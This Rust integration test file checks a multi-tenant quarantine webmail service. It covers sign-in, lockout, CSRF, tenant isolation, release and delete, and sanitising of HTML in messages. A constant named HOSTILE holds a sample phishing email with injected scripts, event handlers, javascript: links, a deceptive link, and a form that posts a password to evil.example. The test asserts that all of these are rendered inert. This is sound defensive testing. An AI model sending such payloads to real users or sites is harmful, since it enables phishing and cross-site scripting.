//! Webmail over real HTTPS against in-process engines: sign-in and sign-out, wrong passwords
//! and lockout, CSRF, tenant and user isolation, release and delete, held mail leaving the list
//! once delivered, hostile HTML made inert, the HTTP redirect, two engines of one cluster, and
//! the `user` command.

mod cluster;
mod first_start; // the loopback default: webmail, its certificate and demo user at first start
pub mod harness;
mod keys; // [engine.webmail] keys away from their defaults: sessions, sign-in limits, timeouts, sizes, texts
mod rules; // issue 15: release rights, per-recipient release, origins, redirects, allow lists

#[path = "../../bench/webmail/page_load.rs"]
mod page_load; // the page-load benchmark (bench/webmail/run.sh runs it in release mode)

use std::time::Duration;

use crate::mail::{Sink, until};
use harness::{PASSWORD, Setup, WebEngine, down_addr, field, links, msg};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_in_sign_out_and_wrong_passwords_look_alike() {
    let dir = tempfile::tempdir().unwrap();
    let (a, g) = (Sink::start().await, Sink::start().await);
    let e = WebEngine::start(dir.path(), &Setup::new(a.addr, g.addr)).await;
    let mut b = e.browser();

    let r = b.get("/").await;
    assert_eq!((r.status, r.location()), (303, "/login"));
    let r = b.get("/inbox").await;
    assert_eq!(
        (r.status, r.location()),
        (303, "/login"),
        "no session, no inbox"
    );

    let wrong = b.try_login("bob@acme.example", "not the password").await;
    let unknown = b.try_login("nobody@acme.example", PASSWORD).await;
    let other = b.try_login("nobody@nowhere.example", PASSWORD).await;
    for r in [&wrong, &unknown, &other] {
        assert_eq!(r.status, 401, "{}", r.text());
        assert!(
            r.text().contains("The address or password is not right."),
            "{}",
            r.text()
        );
        assert!(!b.cookies.contains_key("__Host-mdw"));
    }

    // Case does not matter in the address.
    let r = b.try_login("BOB@Acme.Example", PASSWORD).await;
    assert_eq!((r.status, r.location()), (303, "/inbox"));
    let cookie = r
        .headers
        .iter()
        .find(|(k, v)| k == "set-cookie" && v.starts_with("__Host-mdw="))
        .map(|(_, v)| v.clone())
        .unwrap();
    for attr in ["Secure", "HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(cookie.contains(attr), "{cookie}");
    }
    assert_eq!(b.cookies["__Host-mdw"].len(), 64, "256-bit session token");

    let inbox = b.get("/inbox").await;
    assert_eq!(inbox.status, 200);
    assert!(
        inbox.text().contains("bob@acme.example"),
        "{}",
        inbox.text()
    );
    let csp = inbox.header("content-security-policy").unwrap();
    assert!(
        csp.contains("default-src 'none'") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );
    assert!(
        !csp.contains("script-src") && !csp.contains("unsafe-inline"),
        "{csp}"
    );
    assert_eq!(
        inbox.header("strict-transport-security"),
        Some("max-age=31536000")
    );
    assert_eq!(inbox.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(inbox.header("x-frame-options"), Some("DENY"));
    assert_eq!(inbox.header("cache-control"), Some("no-store"));
    assert!(!inbox.text().contains("<script"), "no script on the page");

    // Sign out: the old cookie is worthless afterwards.
    let stolen = b.cookies["__Host-mdw"].clone();
    let csrf = field(&inbox.text(), "csrf").unwrap();
    let r = b.post("/logout", &[("csrf", &csrf)]).await;
    assert_eq!((r.status, r.location()), (303, "/login?bye=1"));
    assert!(!b.cookies.contains_key("__Host-mdw"));
    let mut thief = e.browser();
    thief.cookies.insert("__Host-mdw".into(), stolen);
    assert_eq!(thief.get("/inbox").await.location(), "/login");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn repeated_failures_lock_the_account_then_the_network() {
    let dir = tempfile::tempdir().unwrap();
    let (a, g) = (Sink::start().await, Sink::start().await);
    let mut s = Setup::new(a.addr, g.addr);
    s.webmail = "login_max_failures = 3\nlogin_max_failures_per_ip = 7\n";
    let e = WebEngine::start(dir.path(), &s).await;
    let mut b = e.browser();
    for _ in 0..3 {
        assert_eq!(b.try_login("bob@acme.example", "wrong").await.status, 401);
    }
    // Locked: even the right password is refused, and the page says why.
    let r = b.try_login("bob@acme.example", PASSWORD).await;
    assert_eq!(r.status, 429);
    assert!(
        r.text()
            .contains("Too many failed sign-ins for this address"),
        "{}",
        r.text()
    );
    // Unknown addresses lock the same way (no enumeration).
    for _ in 0..3 {
        assert_eq!(b.try_login("ghost@acme.example", "wrong").await.status, 401);
    }
    let r = b.try_login("ghost@acme.example", "wrong").await;
    assert!(r.text().contains("for this address"), "{}", r.text());
    // The seventh failure from this address locks the network for everyone from it.
    assert_eq!(b.try_login("amy@acme.example", "wrong").await.status, 401);
    let r = b.try_login("amy@acme.example", PASSWORD).await;
    assert_eq!(r.status, 429);
    assert!(r.text().contains("from your network"), "{}", r.text());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_change_needs_the_csrf_token() {
    let dir = tempfile::tempdir().unwrap();
    let g = Sink::start().await;
    let e = WebEngine::start(dir.path(), &Setup::new(down_addr(), g.addr)).await;
    e.send(
        "alice@sender.example",
        &["bob@acme.example"],
        &msg("bob@acme.example", "QUARANTINE me"),
    )
    .await;
    e.wait_listed(1).await;
    let mut b = e.browser();

    // Sign-in without the form's own token (login CSRF).
    let r = b
        .post(
            "/login",
            &[("address", "bob@acme.example"), ("password", PASSWORD)],
        )
        .await;
    assert_eq!(r.status, 403, "{}", r.text());
    b.login("bob@acme.example").await;
    let link = b.message_links("").await.remove(0);
    let csrf = b.csrf().await;
    for form in [
        vec![],
        vec![("csrf", "0".repeat(32))],
        vec![("csrf", csrf.replace(&csrf[..1], "x"))],
    ] {
        let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
        for action in ["release", "delete", "allow"] {
            let r = b.post(&format!("{link}/{action}"), &form).await;
            assert_eq!(r.status, 403, "{action}: {}", r.text());
        }
        assert_eq!(b.post("/logout", &form).await.status, 403);
        assert_eq!(
            b.post(
                "/allowed",
                &[&form[..], &[("entry", "x@y.example")]].concat()
            )
            .await
            .status,
            403
        );
    }
    // A cross-site request is refused even with the token.
    b.extra.push(("Sec-Fetch-Site".into(), "cross-site".into()));
    assert_eq!(
        b.post(&format!("{link}/release"), &[("csrf", &csrf)])
            .await
            .status,
        403
    );
    b.extra.clear();
    assert_eq!(
        e.store.list()[0].state,
        maildistiller::store::State::Quarantined,
        "nothing changed"
    );
    // With the token it works.
    let r = b.post(&format!("{link}/release"), &[("csrf", &csrf)]).await;
    assert_eq!(
        (r.status, r.location()),
        (303, "/inbox?done=released"),
        "{}",
        r.text()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn users_see_only_their_mail_and_tenants_never_see_each_other() {
    let dir = tempfile::tempdir().unwrap();
    let e = WebEngine::start(dir.path(), &Setup::new(down_addr(), down_addr())).await;
    e.send(
        "a@sender.example",
        &["bob@acme.example"],
        &msg("bob@acme.example", "for bob"),
    )
    .await;
    e.send(
        "a@sender.example",
        &["amy@acme.example"],
        &msg("amy@acme.example", "for amy QUARANTINE"),
    )
    .await;
    e.send(
        "a@sender.example",
        &["boss@globex.example"],
        &msg("boss@globex.example", "for globex"),
    )
    .await;
    e.wait_listed(3).await;

    let mut bob = e.browser();
    bob.login("bob@acme.example").await;
    let page = bob.get("/inbox").await.text();
    assert!(
        page.contains("for bob") && !page.contains("for amy") && !page.contains("for globex"),
        "{page}"
    );
    let bob_link = links(&page).remove(0);
    let m = bob.get(&bob_link).await;
    assert_eq!(m.status, 200);
    assert!(m.text().contains("Hello bob@acme.example."), "{}", m.text());

    let mut amy = e.browser();
    amy.login("amy@acme.example").await;
    let page = amy.get("/inbox").await.text();
    assert!(
        page.contains("for amy") && !page.contains("for bob"),
        "{page}"
    );
    // Bob's link means nothing in Amy's session, for every kind of request.
    for suffix in ["", "/body", "/raw", "/part/0"] {
        assert_eq!(
            amy.get(&format!("{bob_link}{suffix}")).await.status,
            404,
            "{suffix}"
        );
    }
    let csrf = amy.csrf().await;
    for action in ["release", "delete", "allow"] {
        assert_eq!(
            amy.post(&format!("{bob_link}/{action}"), &[("csrf", &csrf)])
                .await
                .status,
            404
        );
    }
    assert_eq!(
        amy.get("/m/00000000000000000000000000000000").await.status,
        404
    );
    // A queue id is not a message link either.
    let qid = e.store.list()[0].env.id.to_string();
    assert_eq!(bob.get(&format!("/m/{qid}")).await.status, 404);

    let mut admin = e.browser();
    admin.login("admin@acme.example").await;
    let page = admin.get("/inbox").await.text();
    assert!(
        page.contains("for bob") && page.contains("for amy") && !page.contains("for globex"),
        "{page}"
    );
    assert!(page.contains("(2)"), "all: 2 {page}");

    let mut boss = e.browser();
    boss.login("boss@globex.example").await;
    let page = boss.get("/inbox").await.text();
    assert!(
        page.contains("for globex") && !page.contains("for bob") && !page.contains("for amy"),
        "{page}"
    );
    assert_eq!(boss.get(&bob_link).await.status, 404);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn release_delivers_delete_removes_and_policy_can_reserve_release() {
    let dir = tempfile::tempdir().unwrap();
    let (a, g) = (Sink::start().await, Sink::start().await);
    let mut s = Setup::new(a.addr, g.addr);
    s.webmail = "admin_release_only = [\"virus\", \"macro\"]\n";
    let e = WebEngine::start(dir.path(), &s).await;
    e.send(
        "a@sender.example",
        &["bob@acme.example"],
        &msg("bob@acme.example", "QUARANTINE one"),
    )
    .await;
    e.send(
        "a@sender.example",
        &["bob@acme.example"],
        &msg("bob@acme.example", "QUARANTINE two"),
    )
    .await;
    e.wait_listed(2).await;
    let mut b = e.browser();
    b.login("bob@acme.example").await;
    let inbox = b.get("/inbox?view=quarantine").await.text();
    assert!(
        inbox.contains("Quarantined (2)") && inbox.contains("quarantine-me"),
        "{inbox}"
    );
    let ls = links(&inbox);
    assert_eq!(ls.len(), 2);
    let csrf = field(&inbox, "csrf").unwrap();
    let page = b.get(&ls[0]).await.text();
    assert!(page.contains("Release to my mailbox"), "{page}");

    // Release: out of the quarantine, delivered to the tenant's server.
    let r = b
        .post(&format!("{}/release", ls[0]), &[("csrf", &csrf)])
        .await;
    assert_eq!(r.location(), "/inbox?done=released");
    assert!(
        until(Duration::from_secs(10), || a.messages().len() == 1).await,
        "delivered"
    );
    assert!(
        a.messages()[0].data.contains("Subject: QUARANTINE two"),
        "newest first"
    );
    let flash = b.get("/inbox?done=released").await.text();
    assert!(
        flash.contains("was released") && flash.contains("Quarantined (1)"),
        "{flash}"
    );
    assert_eq!(b.get(&ls[0]).await.status, 404, "gone from the page");

    // Delete: gone from the queue and the spool, never delivered.
    let id = e.store.list()[0].env.id.clone();
    let r = b
        .post(&format!("{}/delete", ls[1]), &[("csrf", &csrf)])
        .await;
    assert_eq!(r.location(), "/inbox?done=deleted");
    assert!(e.store.is_empty());
    // What a restart would find: a copy of the spool, recovered (the message lived in a slot
    // or a file, see src/store/spool/slots.rs).
    let copy = tempfile::tempdir().unwrap();
    for entry in walk(&e.spool) {
        let to = copy.path().join(entry.strip_prefix(&e.spool).unwrap());
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        let _ = std::fs::copy(&entry, &to);
    }
    let (again, _) = maildistiller::store::Store::open(
        copy.path(),
        |_| maildistiller::store::Dest::Tenant("acme".into()),
        tokio_util::sync::CancellationToken::new(),
    )
    .await
    .unwrap();
    assert!(
        again.get(&id).is_none(),
        "deleted from the spool, not only the page"
    );
    assert_eq!(a.messages().len(), 1);

    // users_may_release = false: the user cannot, the administrator can.
    std::fs::write(
        &e.config,
        std::fs::read_to_string(&e.config).unwrap().replace(
            "admin_release_only = [",
            "users_may_release = false\nadmin_release_only = [",
        ),
    )
    .unwrap();
    e.ops.reload().expect("reload");
    e.send(
        "a@sender.example",
        &["bob@acme.example"],
        &msg("bob@acme.example", "QUARANTINE three"),
    )
    .await;
    e.wait_listed(1).await;
    let link = b.message_links("").await.remove(0);
    let page = b.get(&link).await.text();
    assert!(
        !page.contains("Release to my mailbox") && page.contains("Only an administrator"),
        "{page}"
    );
    assert_eq!(
        b.post(&format!("{link}/release"), &[("csrf", &csrf)])
            .await
            .status,
        403
    );
    let mut admin = e.browser();
    admin.login("admin@acme.example").await;
    let link = admin.message_links("").await.remove(0);
    let csrf = admin.csrf().await;
    assert_eq!(
        admin
            .post(&format!("{link}/release"), &[("csrf", &csrf)])
            .await
            .location(),
        "/inbox?done=released"
    );
    assert!(until(Duration::from_secs(10), || a.messages().len() == 2).await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn held_mail_is_listed_paged_searched_and_leaves_when_delivered() {
    let dir = tempfile::tempdir().unwrap();
    let g = Sink::start().await;
    let down = down_addr();
    let mut s = Setup::new(down, g.addr);
    s.webmail = "page_size = 5\n";
    let e = WebEngine::start(dir.path(), &s).await;
    for i in 0..12 {
        e.send(
            "a@sender.example",
            &["bob@acme.example"],
            &msg("bob@acme.example", &format!("held number {i:02}")),
        )
        .await;
    }
    e.send(
        "a@sender.example",
        &["bob@acme.example"],
        &msg("bob@acme.example", "the invoice"),
    )
    .await;
    e.wait_listed(13).await;
    let mut b = e.browser();
    b.login("bob@acme.example").await;
    let p1 = b.get("/inbox?view=held").await.text();
    assert!(
        p1.contains("Held (13)") && p1.contains("Messages 1–5 of 13"),
        "{p1}"
    );
    assert!(
        p1.find("the invoice").unwrap() < p1.find("held number 11").unwrap(),
        "newest first"
    );
    assert!(p1.contains("Page 1 of 3") && p1.contains("page=2"), "{p1}");
    let p3 = b.get("/inbox?view=held&page=3").await.text();
    assert!(
        p3.contains("Messages 11–13 of 13") && p3.contains("held number 00"),
        "{p3}"
    );
    let found = b.get("/inbox?q=INVOICE").await.text();
    assert_eq!(links(&found).len(), 1, "{found}");
    let by_sender = b.get("/inbox?q=alice+sender").await.text();
    assert_eq!(
        links(&by_sender).len(),
        5,
        "every message is from Alice: one page"
    );
    let held_link = links(&found).remove(0);
    let m = b.get(&held_link).await.text();
    assert!(
        m.contains("Held: your mail server is not accepting mail"),
        "{m}"
    );
    assert!(
        m.contains("Alice Sender &lt;alice@sender.example&gt;"),
        "{m}"
    );

    // The tenant's server comes back: everything is delivered and leaves the list.
    let a = Sink::start_on(down).await;
    assert!(until(Duration::from_secs(20), || a.messages().len() == 13).await);
    assert!(until(Duration::from_secs(5), || e.store.is_empty()).await);
    let empty = b.get("/inbox").await.text();
    assert!(
        empty.contains("No messages here.") && empty.contains("Held (0)"),
        "{empty}"
    );
    assert_eq!(b.get(&held_link).await.status, 404);
}

/// A message that tries everything: scripts, event handlers, remote images and CSS, CSS
/// tricks, forms, frames, `javascript:` links, a link that lies about its target.
pub const HOSTILE: &str = "From: Mallory <m@evil.example>\r\nTo: bob@acme.example\r\nSubject: hostile QUARANTINE\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/plain\r\n\r\nplain\r\n\
--zz\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><head><script>document.title='pwned';window.name='pwned'</script>\
<style>body{background:url(https://evil.example/bg.png)}</style><link rel=stylesheet href=https://evil.example/x.css>\
<meta http-equiv=refresh content=\"0;url=https://evil.example/\"></head><body onload=\"window.name='pwned'\">\
<p style=\"position:fixed;top:0;left:0;width:100%;color:red\">Your account is locked</p>\
<img src=\"https://evil.example/track.png\" onerror=\"window.name='pwned'\">\
<a href=\"javascript:window.name='pwned'\">click me</a> <a href=\"https://login.evil.example/bank\">https://bank.example/</a>\
<form action=\"https://evil.example/steal\"><input name=pw><button>Log in</button></form>\
<iframe src=\"https://evil.example/\"></iframe><svg><script>window.name='pwned'</script></svg>\
<object data=\"https://evil.example/x.swf\"></object><base href=\"https://evil.example/\">\
</body></html>\r\n--zz--\r\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_html_is_rendered_inert() {
    let dir = tempfile::tempdir().unwrap();
    let (a, g) = (Sink::start().await, Sink::start().await);
    let e = WebEngine::start(dir.path(), &Setup::new(a.addr, g.addr)).await;
    e.send("m@evil.example", &["bob@acme.example"], HOSTILE)
        .await;
    e.wait_listed(1).await;
    let mut b = e.browser();
    b.login("bob@acme.example").await;
    let link = b.message_links("").await.remove(0);
    let page = b.get(&link).await.text();
    assert!(page.contains(&format!("src=\"{link}/body\"")), "{page}");
    let frame = page
        .split("<iframe")
        .nth(1)
        .unwrap()
        .split('>')
        .next()
        .unwrap();
    assert!(
        frame.contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\""),
        "{frame}"
    );
    assert!(
        !frame.contains("allow-scripts") && !frame.contains("allow-same-origin"),
        "{frame}"
    );

    for query in ["", "?remote=1"] {
        let body = b.get(&format!("{link}/body{query}")).await;
        assert_eq!(body.status, 200);
        let csp = body.header("content-security-policy").unwrap();
        assert!(
            csp.contains("default-src 'none'")
                && csp.contains("sandbox")
                && !csp.contains("script"),
            "{csp}"
        );
        assert!(
            !csp.contains("allow-scripts") && !csp.contains("allow-same-origin"),
            "{csp}"
        );
        assert_eq!(body.header("x-frame-options"), Some("SAMEORIGIN"));
        let html = body.text().to_lowercase();
        for bad in [
            "<script",
            "onload",
            "onerror",
            "javascript:",
            "<style>body{background",
            "<link",
            "<meta http-equiv",
            "<form",
            "<input",
            "<iframe",
            "<object",
            "<base",
            "position",
            "evil.example/bg",
            "x.css",
            "pwned",
        ] {
            assert!(!html.contains(bad), "{bad} survived ({query}): {html}");
        }
        assert!(html.contains("your account is locked"), "{html}");
        assert!(
            html.contains("https://bank.example/</a> <span class=\"link-target\">[https://login.evil.example/bank]</span>"),
            "links show their real target: {html}"
        );
        assert_eq!(
            html.contains("https://evil.example/track.png"),
            !query.is_empty(),
            "remote images only when asked"
        );
    }
    // Downloads are never rendered as our pages.
    let raw = b.get(&format!("{link}/raw")).await;
    assert_eq!(raw.header("content-type"), Some("application/octet-stream"));
    assert!(
        raw.header("content-disposition")
            .unwrap()
            .starts_with("attachment; filename=\"message-")
    );
    assert!(raw.text().contains("<script>document.title='pwned'"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn allow_this_sender_writes_the_users_list() {
    let dir = tempfile::tempdir().unwrap();
    let g = Sink::start().await;
    let e = WebEngine::start(dir.path(), &Setup::new(down_addr(), g.addr)).await;
    e.send(
        "bounce@lists.partner.example",
        &["bob@acme.example"],
        &msg("bob@acme.example", "QUARANTINE newsletter"),
    )
    .await;
    e.wait_listed(1).await;
    let mut b = e.browser();
    b.login("bob@acme.example").await;
    let link = b.message_links("").await.remove(0);
    let page = b.get(&link).await.text();
    assert!(page.contains("Always allow alice@sender.example"), "{page}");
    let csrf = b.csrf().await;
    assert_eq!(
        b.post(&format!("{link}/allow"), &[("csrf", &csrf)])
            .await
            .location(),
        "/inbox?done=allowed"
    );
    use maildistiller::webmail::{AllowStore, sender_allowed};
    assert!(sender_allowed(
        &e.spool,
        "acme",
        "bob@acme.example",
        "Alice@Sender.example"
    ));
    assert!(!sender_allowed(
        &e.spool,
        "acme",
        "amy@acme.example",
        "alice@sender.example"
    ));
    let store = AllowStore::new(&e.spool);
    assert_eq!(
        store.allowed(
            "acme",
            "BOB@acme.example",
            &["x@y.example".into(), "alice@sender.example".into()]
        ),
        Some("alice@sender.example".into())
    );
    assert!(e.spool.join("allow/acme/bob@acme.example.txt").is_file());
    let list = b.get("/allowed").await.text();
    assert!(list.contains("alice@sender.example"), "{list}");
    assert_eq!(
        b.post(
            "/allowed",
            &[("csrf", &csrf), ("entry", "@partner.example")]
        )
        .await
        .location(),
        "/allowed?done=added"
    );
    assert!(sender_allowed(
        &e.spool,
        "acme",
        "bob@acme.example",
        "x@lists.partner.example"
    ));
    let r = b
        .post(
            "/allowed",
            &[
                ("csrf", &csrf),
                ("entry", "alice@sender.example"),
                ("remove", "1"),
            ],
        )
        .await;
    assert_eq!(r.location(), "/allowed?done=removed");
    assert!(!sender_allowed(
        &e.spool,
        "acme",
        "bob@acme.example",
        "alice@sender.example"
    ));
}

#[test]
fn user_command_adds_changes_and_removes_users() {
    use std::io::Write;
    use std::process::Stdio;
    let dir = tempfile::tempdir().unwrap();
    let c = harness::cert(dir.path());
    let text = harness::config_text(dir.path(), &Setup::new(down_addr(), down_addr()), &c);
    // globex lives in a tenant file, so the command has to find it there.
    let (before, after) = text.split_once("[[tenant]]\nid = \"globex\"").unwrap();
    let (globex, tail) = after.split_once("[policy.default]").unwrap();
    let main = crate::support::write(
        dir.path(),
        "main.toml",
        &format!("tenant_files = [\"tenants.d\"]\n{before}[policy.default]{tail}"),
    );
    std::fs::create_dir(dir.path().join("tenants.d")).unwrap();
    let tfile = crate::support::write(
        &dir.path().join("tenants.d"),
        "globex.toml",
        &format!("# Globex, signed 2024\n[[tenant]]\nid = \"globex\"{globex}"),
    );
    let user = |args: &[&str], stdin: &str| {
        let mut child = crate::support::bin()
            .args(["user"])
            .args(args)
            .args(["--config", main.to_str().unwrap()])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(stdin.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    };
    let o = user(
        &["add", "--tenant", "globex", "new@globex.example"],
        "a long enough password\n",
    );
    assert!(o.status.success(), "{}", crate::support::stderr(&o));
    assert!(
        crate::support::stdout(&o).contains("Reload the running engines"),
        "{}",
        crate::support::stdout(&o)
    );
    let text = std::fs::read_to_string(&tfile).unwrap();
    assert!(
        text.starts_with("# Globex, signed 2024\n"),
        "comments kept: {text}"
    );
    assert!(
        text.contains("address = \"new@globex.example\"") && text.contains("$argon2id$"),
        "{text}"
    );
    assert!(!text.contains("a long enough password"));
    let check = crate::support::run(&["check", "--config", main.to_str().unwrap()]);
    assert!(check.status.success(), "{}", crate::support::stderr(&check));
    // Refused, file untouched: a duplicate, a short password, an address outside the tenant.
    let before = std::fs::read_to_string(&tfile).unwrap();
    for (args, pw, why) in [
        (
            &["add", "--tenant", "globex", "NEW@globex.example"][..],
            "another long password\n",
            "already exists",
        ),
        (
            &["add", "--tenant", "globex", "x@globex.example"][..],
            "short\n",
            "too short",
        ),
        (
            &["add", "--tenant", "globex", "x@acme.example"][..],
            "a long enough password\n",
            "not an address in the tenant's domains",
        ),
        (
            &["add", "--tenant", "nope", "x@acme.example"][..],
            "a long enough password\n",
            "not defined",
        ),
    ] {
        let o = user(args, pw);
        assert_eq!(o.status.code(), Some(64), "{args:?}");
        assert!(
            crate::support::stderr(&o).contains(why),
            "{why}: {}",
            crate::support::stderr(&o)
        );
        assert_eq!(std::fs::read_to_string(&tfile).unwrap(), before);
    }
    let o = user(
        &["passwd", "--tenant", "globex", "new@globex.example"],
        "yet another password\n",
    );
    assert!(o.status.success(), "{}", crate::support::stderr(&o));
    assert_ne!(std::fs::read_to_string(&tfile).unwrap(), before);
    let o = user(
        &["add", "--tenant", "acme", "boss2@acme.example", "--admin"],
        "a long enough password\n",
    );
    assert!(o.status.success(), "{}", crate::support::stderr(&o));
    let main_after = std::fs::read_to_string(&main).unwrap();
    assert!(
        main_after.contains("address = \"boss2@acme.example\"")
            && main_after.contains("admin = true")
    );
    let o = user(&["remove", "--tenant", "globex", "new@globex.example"], "");
    assert!(o.status.success(), "{}", crate::support::stderr(&o));
    assert!(
        !std::fs::read_to_string(&tfile)
            .unwrap()
            .contains("new@globex.example")
    );
}

/// The page-load benchmark; `bench/webmail/run.sh` runs it in release mode.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "benchmark: run bench/webmail/run.sh"]
async fn bench_webmail_page_load() {
    page_load::run().await;
}

/// Every file under `dir`.
fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}
